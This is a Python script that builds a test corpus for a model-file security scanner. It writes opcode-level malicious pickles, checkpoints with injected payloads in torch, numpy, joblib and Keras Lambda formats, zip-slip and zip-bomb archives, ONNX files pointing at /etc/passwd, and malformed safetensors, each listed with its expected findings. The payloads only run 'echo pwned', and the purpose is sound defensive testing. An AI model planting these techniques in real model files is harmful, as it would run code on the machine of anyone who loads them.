#!/usr/bin/env python3
"""Builds the model-file scanner corpus in fixtures/scan/.

  malicious/  hostile files, one per technique; every pickle payload is written opcode by opcode and never
              loaded, so nothing here ever runs (payloads only name `echo pwned`)
  benign/     real checkpoints from torch 1.13 / numpy / onnx, plus hand-written safetensors and Keras configs
  review/     legitimate files that still need a human look (a full nn.Module save references its class)

manifest.json lists the findings (rule id and severity) each malicious file must produce.

Usage: python3 tools/make_scan_corpus.py
"""
import gzip
import io
import json
import marshal
import os
import shutil
import struct
import tarfile
import zipfile

import numpy as np
import onnx
import torch
from onnx import TensorProto, helper

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'fixtures', 'scan')
MAL = os.path.join(ROOT, 'malicious')
BEN = os.path.join(ROOT, 'benign')
REV = os.path.join(ROOT, 'review')
CMD = 'echo pwned'
EXPECT = {}
OPCODE_OFFSETS = {}


# ----------------------------------------------------------------------------------------- opcode helpers
def proto(n):
    return b'\x80' + bytes([n])


def binunicode(s):
    b = s.encode('utf-8')
    return b'X' + struct.pack('<I', len(b)) + b


def short_binunicode(s):
    b = s.encode('utf-8')
    return b'\x8c' + bytes([len(b)]) + b


def glob(module, name):
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def binput(i):
    return b'q' + bytes([i])


def binget(i):
    return b'h' + bytes([i])


def long_binput(i):
    return b'r' + struct.pack('<I', i)


def long_binget(i):
    return b'j' + struct.pack('<I', i)


def binint1(i):
    return b'K' + bytes([i])


def binint(i):
    return b'J' + struct.pack('<i', i)


MARK, STOP, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b'(', b'.', b't', b'\x85', b'\x86', b'\x87'
REDUCE, BUILD, NEWOBJ, NEWOBJ_EX, OBJ = b'R', b'b', b'\x81', b'\x92', b'o'
EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST, NONE, POP = b')', b'}', b']', b'N', b'0'
SETITEM, SETITEMS, APPENDS, NEWTRUE, NEWFALSE, MEMOIZE, STACK_GLOBAL = b's', b'u', b'e', b'\x88', b'\x89', b'\x94', b'\x93'


def os_system_call(module='posix'):
    """posix.system('echo pwned') via GLOBAL + REDUCE, leaving the result on the stack."""
    return glob(module, 'system') + binunicode(CMD) + TUPLE1 + REDUCE


def write(folder, name, data, expect=None):
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, name), 'wb') as f:
        f.write(data)
    if expect is not None:
        rel = os.path.relpath(os.path.join(folder, name), MAL)
        EXPECT[rel] = expect


def zip_bytes(files, compress=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', compression=compress) as z:
        for name, data in files:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = compress
            z.writestr(info, data)
    return buf.getvalue()


def crit(callable_name):
    return {'id': 'pickle-dangerous-callable', 'severity': 'critical', 'value': callable_name}


# ------------------------------------------------------------------------------------------ pickle payloads
def malicious_pickles():
    # GLOBAL + REDUCE, protocol 2
    write(MAL, 'global_reduce.pkl', proto(2) + os_system_call() + STOP, [crit('posix.system')])
    # protocol 0, text form: cos\nsystem\n(S'echo pwned'\ntR.
    write(MAL, 'protocol0.pkl', b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR.", [crit('os.system')])
    # STACK_GLOBAL with literal strings, protocol 4 with a FRAME
    body = short_binunicode('subprocess') + short_binunicode('check_output') + STACK_GLOBAL + MARK + short_binunicode('echo') + short_binunicode('pwned') + b'l' + TUPLE1 + REDUCE + STOP
    write(MAL, 'stack_global.pkl', proto(4) + b'\x95' + struct.pack('<Q', len(body)) + body, [crit('subprocess.check_output')])
    # memo trick: module and name strings memoized with BINPUT / MEMOIZE, fetched with BINGET
    body = (short_binunicode('builtins') + binput(0) + POP + short_binunicode('eval') + MEMOIZE + POP
            + binget(0) + binget(1) + STACK_GLOBAL + short_binunicode("__import__('os').system('echo pwned')") + TUPLE1 + REDUCE + STOP)
    write(MAL, 'memo_binget.pkl', proto(4) + body, [crit('builtins.eval')])
    # the same through LONG_BINPUT / LONG_BINGET with large memo keys
    body = (binunicode('nt') + long_binput(70000) + POP + binunicode('system') + long_binput(123456) + POP
            + long_binget(70000) + long_binget(123456) + STACK_GLOBAL + binunicode(CMD) + TUPLE1 + REDUCE + STOP)
    write(MAL, 'memo_long_binget.pkl', proto(4) + body, [crit('nt.system')])
    # INST (protocol 0): (S'echo pwned'\nios\nsystem\n.
    write(MAL, 'inst.pkl', b"(S'" + CMD.encode() + b"'\nios\nsystem\n.", [crit('os.system')])
    # OBJ (protocol 1): MARK class args OBJ
    write(MAL, 'obj.pkl', MARK + glob('subprocess', 'Popen') + binunicode(CMD) + OBJ + STOP, [crit('subprocess.Popen')])
    # NEWOBJ: cls.__new__(cls, *args) on a blocked class
    write(MAL, 'newobj.pkl', proto(2) + glob('subprocess', 'Popen') + binunicode(CMD) + TUPLE1 + NEWOBJ + STOP, [crit('subprocess.Popen')])
    # NEWOBJ_EX: socket.socket with kwargs
    write(MAL, 'newobj_ex.pkl', proto(4) + glob('socket', 'socket') + EMPTY_TUPLE + EMPTY_DICT + NEWOBJ_EX + STOP,
          [{'id': 'pickle-dangerous-callable', 'severity': 'high', 'value': 'socket.socket'}])
    # BUILD __setstate__ trick: slot state sets inst.__setstate__ = os.system, a second BUILD calls it
    body = (glob('argparse', 'Namespace') + EMPTY_TUPLE + NEWOBJ
            + NONE + EMPTY_DICT + binunicode('__setstate__') + glob('os', 'system') + SETITEM + TUPLE2 + BUILD
            + binunicode(CMD) + BUILD + STOP)
    write(MAL, 'build_setstate.pkl', proto(2) + body,
          [crit('os.system'), {'id': 'pickle-state-injection', 'severity': 'high', 'value': '__setstate__'}])
    # a callable computed at load time: STACK_GLOBAL whose module string is the result of a call
    body = (glob('builtins', 'str') + short_binunicode('o') + short_binunicode('s') + b'\x86' + REDUCE  # any call result
            + short_binunicode('system') + STACK_GLOBAL + binunicode(CMD) + TUPLE1 + REDUCE + STOP)
    write(MAL, 'unresolved_stack_global.pkl', proto(4) + body, [{'id': 'pickle-unresolved-callable', 'severity': 'high'}])
    # EXT1: a callable from the copyreg extension registry
    write(MAL, 'ext_code.pkl', proto(2) + b'\x82\x07' + binunicode(CMD) + TUPLE1 + REDUCE + STOP,
          [{'id': 'pickle-extension-code', 'severity': 'medium'}, {'id': 'pickle-unresolved-callable', 'severity': 'high'}])
    # functools.partial(os.system, 'echo pwned')()
    body = glob('functools', 'partial') + glob('posix', 'system') + binunicode(CMD) + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE + STOP
    write(MAL, 'functools_partial.pkl', proto(2) + body,
          [crit('posix.system'), {'id': 'pickle-dangerous-callable', 'severity': 'high', 'value': 'functools.partial'}])
    # getattr(__import__('os'), 'system')
    body = (glob('builtins', 'getattr') + glob('builtins', '__import__') + binunicode('os') + TUPLE1 + REDUCE
            + binunicode('system') + TUPLE2 + REDUCE + binunicode(CMD) + TUPLE1 + REDUCE + STOP)
    write(MAL, 'getattr_chain.pkl', proto(2) + body,
          [crit('builtins.__import__'), {'id': 'pickle-dangerous-callable', 'severity': 'high', 'value': 'builtins.getattr'},
           {'id': 'pickle-unresolved-callable', 'severity': 'high'}])
    # a benign pickle followed by a second, malicious one (pickle.load called twice)
    first = proto(2) + binint1(1) + STOP
    write(MAL, 'stacked.pkl', first + proto(2) + glob('runpy', 'run_path') + binunicode('/tmp/x.py') + TUPLE1 + REDUCE + STOP,
          [crit('runpy.run_path')])
    # gzip-compressed payload (joblib compress=True style)
    write(MAL, 'compressed.pkl.gz', gzip.compress(proto(2) + os_system_call() + STOP, mtime=0), [crit('posix.system')])


# --------------------------------------------------------------------------------------------- containers
def state_dict():
    g = torch.Generator().manual_seed(0)
    return {'fc.weight': torch.randn(4, 3, generator=g), 'fc.bias': torch.zeros(4), 'steps': torch.tensor([7], dtype=torch.int64)}


def inject_after_proto(pkl):
    """Puts posix.system('echo pwned') + POP right after a pickle's PROTO opcode; the rest still loads."""
    assert pkl[0] == 0x80
    return pkl[:2] + os_system_call() + POP + pkl[2:]


def torch_containers(tmp):
    sd = state_dict()
    # zip checkpoint with a payload in data.pkl
    path = os.path.join(tmp, 'ckpt.pt')
    torch.save(sd, path)
    with zipfile.ZipFile(path) as z:
        files = [(n, z.read(n)) for n in z.namelist()]
    files = [(n, inject_after_proto(d) if n.endswith('data.pkl') else d) for n, d in files]
    prefix = files[0][0].split('/')[0]
    write(MAL, 'torch_zip_payload.pt', zip_bytes(files), [dict(crit('posix.system'), innerPath=f'{prefix}/data.pkl')])
    # legacy stacked-pickle checkpoint: magic, protocol, sys_info, main pickle (payload), keys, storages
    path = os.path.join(tmp, 'legacy.pt')
    torch.save(sd, path, _use_new_zipfile_serialization=False)
    raw = open(path, 'rb').read()
    import pickletools
    f = io.BytesIO(raw)
    starts = []
    for _ in range(4):
        starts.append(f.tell())
        for _op in pickletools.genops(f):
            pass
    main = starts[3]
    write(MAL, 'torch_legacy_payload.pt', raw[:main] + inject_after_proto(raw[main:]), [dict(crit('posix.system'), pickleIndex=3)])
    # legacy tar checkpoint: sys_info, pickle (payload), storages, tensors
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w', format=tarfile.USTAR_FORMAT) as t:
        def add(name, data):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            t.addfile(info, io.BytesIO(data))
        add('sys_info', proto(2) + EMPTY_DICT + STOP)
        add('pickle', proto(2) + os_system_call() + STOP)
        add('storages', proto(2) + binint1(0) + STOP)
        add('tensors', proto(2) + binint1(0) + STOP)
    write(MAL, 'torch_legacy_tar_payload.tar', buf.getvalue(), [dict(crit('posix.system'), innerPath='pickle')])


def npy_header(descr, shape):
    h = "{'descr': %r, 'fortran_order': False, 'shape': %r, }" % (descr, shape)
    pad = 64 - (10 + len(h) + 1) % 64
    h = h + ' ' * pad + '\n'
    return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(h)) + h.encode('latin1')


def numpy_containers():
    # object array whose element pickle carries the payload (written by hand, as np.save would lay it out)
    payload = proto(3) + glob('numpy.core.multiarray', '_reconstruct') + glob('numpy', 'ndarray') + binint1(0) + TUPLE1 + b'C\x01b' + TUPLE3 + REDUCE
    payload += MARK + binint1(1) + binint1(1) + TUPLE1 + glob('numpy', 'dtype') + binunicode('O8') + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE
    payload += MARK + binint1(3) + binunicode('|') + NONE + NONE + NONE + binint(-1) + binint(-1) + binint1(63) + TUPLE + BUILD
    payload += NEWFALSE + EMPTY_LIST + MARK + os_system_call() + APPENDS + TUPLE + BUILD + STOP
    write(MAL, 'object_array.npy', npy_header('|O', (1,)) + payload,
          [{'id': 'npy-object-array', 'severity': 'low'}, crit('posix.system')])
    # .npz whose member is that object array
    write(MAL, 'object_array.npz', zip_bytes([('x.npy', npy_header('|O', (1,)) + payload)]), [dict(crit('posix.system'), innerPath='x.npy')])
    # joblib-like: a NumpyArrayWrapper, its raw array bytes inline (full of '.' STOP bytes), then a payload
    head = proto(2) + EMPTY_LIST + MARK + glob('joblib.numpy_pickle', 'NumpyArrayWrapper') + EMPTY_TUPLE + NEWOBJ
    head += EMPTY_DICT + MARK + binunicode('subclass') + glob('numpy', 'ndarray') + binunicode('shape') + binint1(4) + TUPLE1
    head += binunicode('order') + binunicode('C') + binunicode('dtype') + glob('numpy', 'dtype') + binunicode('f8') + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE
    head += MARK + binint1(3) + binunicode('<') + NONE + NONE + NONE + binint(-1) + binint(-1) + binint1(0) + TUPLE + BUILD
    head += binunicode('allow_mmap') + NEWTRUE + binunicode('numpy_array_alignment_bytes') + binint1(16) + SETITEMS + BUILD
    pad = 16 - (len(head) + 1) % 16
    data = bytes([pad]) + b'\xff' * pad + b'.' * 16 + np.array([1.5, -2.0], dtype='<f8').tobytes()
    tail = os_system_call() + APPENDS + STOP
    write(MAL, 'joblib_like.joblib', head + data + tail, [crit('posix.system')])


def archives():
    inner = zip_bytes([('payload.pkl', proto(2) + os_system_call() + STOP)])
    write(MAL, 'nested.zip', zip_bytes([('inner.zip', inner)]), [dict(crit('posix.system'), innerPath='inner.zip/payload.pkl')])
    # zip slip member name
    write(MAL, 'zip_slip.zip', zip_bytes([('../../evil.pkl', proto(2) + os_system_call() + STOP)]),
          [{'id': 'archive-path-traversal', 'severity': 'high'}, crit('posix.system')])
    # compression bomb: 8 MiB of zeros deflate to ~8 KiB
    write(MAL, 'zip_bomb.zip', zip_bytes([('zeros.bin', b'\0' * (8 << 20))], zipfile.ZIP_DEFLATED), [{'id': 'archive-bomb', 'severity': 'high'}])
    # overlapping-entry bomb: two central-directory records point at the same local header
    one = zip_bytes([('a.pkl', proto(2) + binint1(1) + STOP)])
    eocd = one.rindex(b'PK\x05\x06')
    cd_off = struct.unpack('<I', one[eocd + 16:eocd + 20])[0]
    cd = one[cd_off:eocd]
    cd2 = cd.replace(b'a.pkl', b'b.pkl')
    out = one[:cd_off] + cd + cd2
    eocd_rec = bytearray(one[eocd:])
    struct.pack_into('<HHII', eocd_rec, 8, 2, 2, len(cd) * 2, cd_off)
    write(MAL, 'zip_overlap.zip', out + bytes(eocd_rec), [{'id': 'archive-bomb', 'severity': 'high'}])


# -------------------------------------------------------------------------------------------------- ONNX
def onnx_model(initializers, nodes=None, domain_imports=None, inputs=None):
    x = helper.make_tensor_value_info('x', TensorProto.FLOAT, [1, 3])
    y = helper.make_tensor_value_info('y', TensorProto.FLOAT, [1, 3])
    nodes = nodes or [helper.make_node('Add', ['x', initializers[0].name], ['y'])]
    g = helper.make_graph(nodes, 'g', inputs or [x], [y], initializer=initializers)
    opsets = [helper.make_opsetid('', 17)] + [helper.make_opsetid(d, 1) for d in (domain_imports or [])]
    m = helper.make_model(g, opset_imports=opsets, producer_name='bulwark-corpus')
    m.ir_version = 8
    return m.SerializeToString()


def external_tensor(name, location):
    t = TensorProto()
    t.name = name
    t.data_type = TensorProto.FLOAT
    t.dims.extend([1, 3])
    t.data_location = TensorProto.EXTERNAL
    for k, v in (('location', location), ('offset', '0'), ('length', '12')):
        e = t.external_data.add()
        e.key = k
        e.value = v
    return t


def onnx_files():
    b = helper.make_tensor('b', TensorProto.FLOAT, [1, 3], [1.0, 2.0, 3.0])
    write(MAL, 'onnx_traversal.onnx', onnx_model([external_tensor('b', '../../../../etc/passwd')]),
          [{'id': 'onnx-external-data-traversal', 'severity': 'high'}])
    write(MAL, 'onnx_absolute.onnx', onnx_model([external_tensor('b', '/etc/passwd')]),
          [{'id': 'onnx-external-data-absolute', 'severity': 'high'}])
    custom = helper.make_node('EvilOp', ['x', 'b'], ['y'], domain='com.evil.ops')
    write(MAL, 'onnx_custom_domain.onnx', onnx_model([b], [custom], ['com.evil.ops']),
          [{'id': 'onnx-custom-domain', 'severity': 'medium', 'value': 'com.evil.ops'}])
    huge = TensorProto()
    huge.name = 'b'
    huge.data_type = TensorProto.FLOAT
    huge.dims.extend([1 << 40, 1 << 40])
    huge.raw_data = b'\0' * 12
    write(MAL, 'onnx_huge_dims.onnx', onnx_model([huge]), [{'id': 'onnx-dimension-limit', 'severity': 'medium'}])
    short = TensorProto()
    short.name = 'b'
    short.data_type = TensorProto.FLOAT
    short.dims.extend([1, 3])
    short.raw_data = b'\0' * 8
    write(MAL, 'onnx_size_mismatch.onnx', onnx_model([short]), [{'id': 'onnx-initializer-size-mismatch', 'severity': 'medium'}])
    # a model whose external data file is a link out of the folder is built by the test (links need a real folder)
    write(BEN, 'linear.onnx', onnx_model([b]))
    os.makedirs(os.path.join(BEN, 'onnx_external'), exist_ok=True)
    write(os.path.join(BEN, 'onnx_external'), 'model.onnx', onnx_model([external_tensor('b', 'weights.bin')]))
    write(os.path.join(BEN, 'onnx_external'), 'weights.bin', np.array([1, 2, 3], dtype='<f4').tobytes())


# ------------------------------------------------------------------------------------------- safetensors
def safetensors_bytes(header, data, header_len=None):
    h = json.dumps(header, separators=(',', ':')).encode()
    h += b' ' * ((8 - len(h) % 8) % 8)
    n = len(h) if header_len is None else header_len
    return struct.pack('<Q', n) + h + data


def safetensors_files():
    a = np.arange(6, dtype='<f4').tobytes()
    good = {'__metadata__': {'format': 'pt'}, 'a': {'dtype': 'F32', 'shape': [2, 3], 'data_offsets': [0, 24]}, 'b': {'dtype': 'I64', 'shape': [2], 'data_offsets': [24, 40]}}
    write(BEN, 'model.safetensors', safetensors_bytes(good, a + np.array([1, 2], dtype='<i8').tobytes()))
    overlap = {'a': {'dtype': 'F32', 'shape': [2, 3], 'data_offsets': [0, 24]}, 'b': {'dtype': 'F32', 'shape': [2], 'data_offsets': [16, 24]}}
    write(MAL, 'st_overlap.safetensors', safetensors_bytes(overlap, a), [{'id': 'safetensors-overlap', 'severity': 'medium'}])
    gap = {'a': {'dtype': 'F32', 'shape': [2], 'data_offsets': [0, 8]}, 'b': {'dtype': 'F32', 'shape': [2], 'data_offsets': [16, 24]}}
    write(MAL, 'st_gap.safetensors', safetensors_bytes(gap, a), [{'id': 'safetensors-gap', 'severity': 'medium'}])
    oob = {'a': {'dtype': 'F32', 'shape': [2, 3], 'data_offsets': [0, 24]}, 'b': {'dtype': 'F32', 'shape': [1000], 'data_offsets': [24, 4024]}}
    write(MAL, 'st_out_of_bounds.safetensors', safetensors_bytes(oob, a), [{'id': 'safetensors-out-of-bounds', 'severity': 'high'}])
    write(MAL, 'st_huge_header.safetensors', safetensors_bytes(good, a, header_len=1 << 40), [{'id': 'safetensors-header-too-large', 'severity': 'high'}])
    bad = {'a': {'dtype': 'F33', 'shape': [2, -3], 'data_offsets': [0, 24]}, '__metadata__': {'n': 1}}
    write(MAL, 'st_bad_entries.safetensors', safetensors_bytes(bad, a),
          [{'id': 'safetensors-unknown-dtype', 'severity': 'medium'}, {'id': 'safetensors-bad-shape', 'severity': 'medium'},
           {'id': 'safetensors-bad-metadata', 'severity': 'low'}])
    mism = {'a': {'dtype': 'F64', 'shape': [2, 3], 'data_offsets': [0, 24]}}
    write(MAL, 'st_size_mismatch.safetensors', safetensors_bytes(mism, a), [{'id': 'safetensors-offsets-mismatch', 'severity': 'medium'}])


# ------------------------------------------------------------------------------------------------- Keras
def keras_config(layers):
    return json.dumps({
        'module': 'keras', 'class_name': 'Sequential', 'registered_name': None,
        'config': {'name': 'sequential', 'layers': layers},
    }, indent=1).encode()


def dense(name):
    return {'module': 'keras.layers', 'class_name': 'Dense', 'registered_name': None,
            'config': {'name': name, 'units': 4, 'activation': 'relu'}}


def keras_files():
    # compile() only builds the code object; marshal.dumps serializes it. Nothing runs.
    code = compile("lambda x: __import__('os').system('echo pwned') or x", '<lambda>', 'eval')
    b64 = __import__('base64').b64encode(marshal.dumps(code)).decode()
    lam = {'module': 'keras.layers', 'class_name': 'Lambda', 'registered_name': None,
           'config': {'name': 'lambda', 'function': {'class_name': '__lambda__', 'config': {'code': b64, 'defaults': None, 'closure': None}}}}
    meta = json.dumps({'keras_version': '3.3.3'}).encode()
    h5 = b'\x89HDF\r\n\x1a\n' + b'\0' * 56
    write(MAL, 'lambda.keras', zip_bytes([('metadata.json', meta), ('config.json', keras_config([dense('d1'), lam])), ('model.weights.h5', h5)]),
          [{'id': 'keras-lambda-layer', 'severity': 'high', 'innerPath': 'config.json'}])
    evil = {'module': 'os', 'class_name': 'system', 'registered_name': 'system', 'config': CMD}
    custom = {'module': 'my_company.layers', 'class_name': 'Gate', 'registered_name': 'my_company>Gate', 'config': {'name': 'gate'}}
    write(MAL, 'custom_objects.keras', zip_bytes([('metadata.json', meta), ('config.json', keras_config([dense('d1'), custom, evil])), ('model.weights.h5', h5)]),
          [{'id': 'keras-custom-object', 'severity': 'critical'}, {'id': 'keras-custom-object', 'severity': 'medium'}])
    legacy_cfg = json.dumps({'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': [
        {'class_name': 'Lambda', 'config': {'name': 'lambda_1', 'function': [b64, None, None], 'function_type': 'lambda'}}]}})
    write(MAL, 'lambda_legacy.h5', h5 + b'\0' * 448 + b'model_config\0' + legacy_cfg.encode() + b'\0' * 64,
          [{'id': 'keras-h5-lambda', 'severity': 'high'}])
    write(BEN, 'dense.keras', zip_bytes([('metadata.json', meta), ('config.json', keras_config([dense('d1'), dense('d2')])), ('model.weights.h5', h5)]))


# ------------------------------------------------------------------------------------------------ benign
class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(3, 2)

    def forward(self, x):
        return self.fc(x)


def benign_files(tmp):
    sd = state_dict()
    torch.save(sd, os.path.join(BEN, 'state_dict.pt'))
    torch.save(sd, os.path.join(BEN, 'state_dict_legacy.pt'), _use_new_zipfile_serialization=False)
    ckpt = {'model': sd, 'epoch': 3, 'metrics': {'acc': np.float64(0.93)}, 'arr': np.arange(5, dtype=np.int32),
            'shape': torch.Size([2, 3]), 'names': ['fc'], 'lr': 1e-3, 'dtype': torch.float16}
    torch.save(ckpt, os.path.join(BEN, 'training_checkpoint.pt'))
    np.save(os.path.join(BEN, 'array.npy'), np.arange(12, dtype='<f4').reshape(3, 4))
    np.savez_compressed(os.path.join(BEN, 'arrays.npz'), a=np.zeros((4, 4)), b=np.arange(3))
    torch.manual_seed(0)
    os.makedirs(REV, exist_ok=True)
    torch.save(Net(), os.path.join(REV, 'full_module.pt'))


def joblib_like_benign():
    """A file laid out as joblib.dump writes it (protocol 4 frames, arrays inline after their wrapper), produced
    by a stand-in for joblib's NumpyPickler, since joblib itself is not installed here."""
    import pickle
    import sys
    import types
    mod = types.ModuleType('joblib.numpy_pickle')

    class NumpyArrayWrapper:
        def __init__(self, subclass, shape, order, dtype, allow_mmap=False, numpy_array_alignment_bytes=16):
            self.subclass, self.shape, self.order, self.dtype = subclass, shape, order, dtype
            self.allow_mmap, self.numpy_array_alignment_bytes = allow_mmap, numpy_array_alignment_bytes

    NumpyArrayWrapper.__module__ = 'joblib.numpy_pickle'
    NumpyArrayWrapper.__qualname__ = 'NumpyArrayWrapper'
    mod.NumpyArrayWrapper = NumpyArrayWrapper
    sys.modules.setdefault('joblib', types.ModuleType('joblib'))
    sys.modules['joblib.numpy_pickle'] = mod

    class NumpyPickler(pickle._Pickler):
        def save(self, obj, save_persistent_id=True):
            if type(obj) is np.ndarray and not obj.dtype.hasobject:
                w = NumpyArrayWrapper(type(obj), obj.shape, 'C', obj.dtype)
                pickle._Pickler.save(self, w)
                if self.proto >= 4:
                    self.framer.commit_frame(force=True)
                pos = self.file_handle.tell()
                pad = 16 - ((pos + 1) % 16)
                self.file_handle.write(bytes([pad]) + b'\xff' * pad)
                self.file_handle.write(np.ascontiguousarray(obj).tobytes('C'))
                return
            return pickle._Pickler.save(self, obj, save_persistent_id)

    buf = io.BytesIO()
    p = NumpyPickler(buf, protocol=4)
    p.file_handle = buf
    p.dump({'coef': np.linspace(0, 1, 7).reshape(7, 1), 'classes': np.array([0, 1], dtype=np.int64), 'name': 'model', 'n_iter': 12,
            'weights': [np.full(3, 46.0), np.arange(4, dtype='<f4')]})
    del sys.modules['joblib.numpy_pickle']
    write(BEN, 'model.joblib', buf.getvalue())


# ------------------------------------------------------------------------------------------- every opcode
def all_opcodes():
    """One protocol-5 stream that uses each of pickletools' 68 opcodes once or more (only allowlisted globals)."""
    import pickletools
    K = binint1
    u64 = lambda n: struct.pack('<Q', n)
    body = MARK
    body += b'I42\n' + b'I01\n' + binint(-7) + K(200) + b'M' + struct.pack('<H', 60000) + b'L123L\n'
    body += b'\x8a\x02\xff\x00' + b'\x8b' + struct.pack('<i', 3) + b'\x01\x02\x03'
    body += b"S'a\\x41\\n'\n" + b'T' + struct.pack('<i', 3) + b'abc' + b'U\x02hi'
    body += b'B' + struct.pack('<I', 2) + b'\x00\x01' + b'C\x01\x02' + b'\x8e' + u64(3) + b'xyz' + b'\x96' + u64(2) + b'ba'
    body += b'\x97\x98' + NONE + NEWTRUE + NEWFALSE
    body += b'Vcaf\\u00e9\n' + short_binunicode('s') + binunicode('b') + b'\x8d' + u64(2) + b'u8'
    body += b'F1.5\n' + b'G' + struct.pack('>d', 2.5)
    body += EMPTY_LIST + binunicode('x') + b'a' + MARK + K(1) + K(2) + APPENDS
    body += MARK + K(1) + K(2) + b'l'
    body += EMPTY_TUPLE + MARK + K(1) + TUPLE + K(1) + TUPLE1 + K(1) + K(2) + TUPLE2 + K(1) + K(2) + K(3) + TUPLE3
    body += EMPTY_DICT + K(1) + K(2) + SETITEM + MARK + K(3) + K(4) + SETITEMS
    body += MARK + K(1) + K(2) + b'd'
    body += b'\x8f' + MARK + K(1) + K(2) + b'\x90'
    body += MARK + K(1) + K(2) + b'\x91'
    body += K(9) + POP + MARK + K(1) + K(2) + b'1' + K(7) + b'2' + POP
    body += K(5) + b'p0\n' + POP + b'g0\n'
    body += K(6) + binput(1) + POP + binget(1)
    body += K(7) + long_binput(2) + POP + long_binget(2)
    body += K(8) + MEMOIZE
    body += b'\x82\x01' + b'\x83\x02\x00' + b'\x84' + struct.pack('<i', 3)
    body += glob('collections', 'OrderedDict') + EMPTY_TUPLE + REDUCE
    body += short_binunicode('collections') + short_binunicode('OrderedDict') + STACK_GLOBAL + EMPTY_TUPLE + NEWOBJ
    body += glob('collections', 'OrderedDict') + EMPTY_TUPLE + EMPTY_DICT + NEWOBJ_EX
    body += MARK + b'icollections\nOrderedDict\n'
    body += MARK + glob('collections', 'OrderedDict') + OBJ
    body += glob('argparse', 'Namespace') + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + BUILD
    body += b'P0\n' + binunicode('k') + b'Q'
    body += b'l' + STOP
    data = proto(5) + b'\x95' + struct.pack('<Q', len(body)) + body
    names = {op.name for op, _arg, _pos in pickletools.genops(data)}
    missing = {op.name for op in pickletools.opcodes} - names
    assert not missing, missing
    write(os.path.join(ROOT, 'opcodes'), 'all_opcodes.pkl', data)
    # byte offsets as pickletools reports them, for the reader's evidence to be checked against
    OPCODE_OFFSETS['all_opcodes.pkl'] = {op.name: pos for op, _arg, pos in pickletools.genops(data) if op.name.startswith('EXT') or op.name in ('STACK_GLOBAL', 'INST', 'BINPERSID')}


def main():
    for d in (MAL, BEN, REV, os.path.join(ROOT, 'opcodes')):
        shutil.rmtree(d, ignore_errors=True)
        os.makedirs(d)
    tmp = os.path.join(ROOT, '.tmp')
    os.makedirs(tmp, exist_ok=True)
    try:
        malicious_pickles()
        torch_containers(tmp)
        numpy_containers()
        archives()
        onnx_files()
        safetensors_files()
        keras_files()
        benign_files(tmp)
        joblib_like_benign()
        all_opcodes()
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    with open(os.path.join(ROOT, 'manifest.json'), 'w') as f:
        json.dump({'malicious': EXPECT, 'opcodes': OPCODE_OFFSETS}, f, indent=1, sort_keys=True)
        f.write('\n')
    total = sum(os.path.getsize(os.path.join(dp, fn)) for dp, _, fns in os.walk(ROOT) for fn in fns)
    print(f'wrote {len(EXPECT)} malicious files; corpus is {total} bytes')


if __name__ == '__main__':
    main()
